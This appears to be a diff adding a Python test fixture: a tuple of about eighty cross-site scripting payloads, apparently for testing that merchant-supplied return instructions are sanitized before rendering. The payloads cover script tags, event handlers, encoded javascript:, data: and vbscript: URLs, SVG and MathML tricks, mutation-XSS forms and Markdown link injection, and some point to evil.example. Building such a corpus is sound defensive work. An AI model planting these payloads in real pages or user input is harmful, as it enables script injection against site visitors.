@@ -1,0 +1,90 @@
+"""Hostile text a merchant (or whoever stole a merchant's key) could put in return instructions.
+
+Each is a distinct trick: script and event handlers, javascript:/data:/vbscript: URLs plain,
+cased, entity-encoded and split by whitespace, svg/math/iframe/object/embed/form/meta/base/style
+elements, Markdown link and image tricks, raw HTML blocks, unclosed tags, attribute breaking and
+parser-confusion (mutation XSS) forms.
+"""
+
+PAYLOADS = (
+    # script
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "<div>\n<script>alert(1)</script>\n</div>",
+    "<template><script>alert(1)</script></template>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!--<script>alert(1)</script>-->",
+    # event handlers
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)",
+    "<IMG SRC=`javascript:alert(1)`>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<frameset onload=alert(1)>",
+    '<a href="https://shop.example" onclick="alert(1)">ok</a>',
+    '<a href="mailto:returns@shop.example" onmouseover=alert(1)>mail</a>',
+    "<p/onmouseover=alert(1)>hover</p>",
+    # javascript:, data:, vbscript: URLs in HTML
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "<a href=vbscript:msgbox(1)>x</a>",
+    '<a href="//evil.example/">protocol-relative</a>',
+    '<a href="/account/delete">our own site</a>',
+    # svg, math
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<math href="javascript:alert(1)">x</math>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    # frames, plugins, forms
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<iframe",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>Send</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<isindex action=javascript:alert(1) type=image>",
+    # meta, base, link, style
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
+    # parser confusion
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<textarea><script>alert(1)</script></textarea>",
+    '<a href="https://ok.example" title="x"onmouseover="alert(1)">x</a>',
+    # Markdown links and images
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](<javascript:alert(1)>)",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click](vbscript:msgbox(1))",
+    "[click][evil]\n\n[evil]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    '![x](https://evil.example/a.png "onerror=alert(1)")',
+    "[<img src=x onerror=alert(1)>](https://shop.example)",
+    '[x](https://shop.example "a\\" onclick=\\"alert(1)")',
+    '[x](https://shop.example" onmouseover="alert(1))',
+    "[x](/relative/path)",
+)
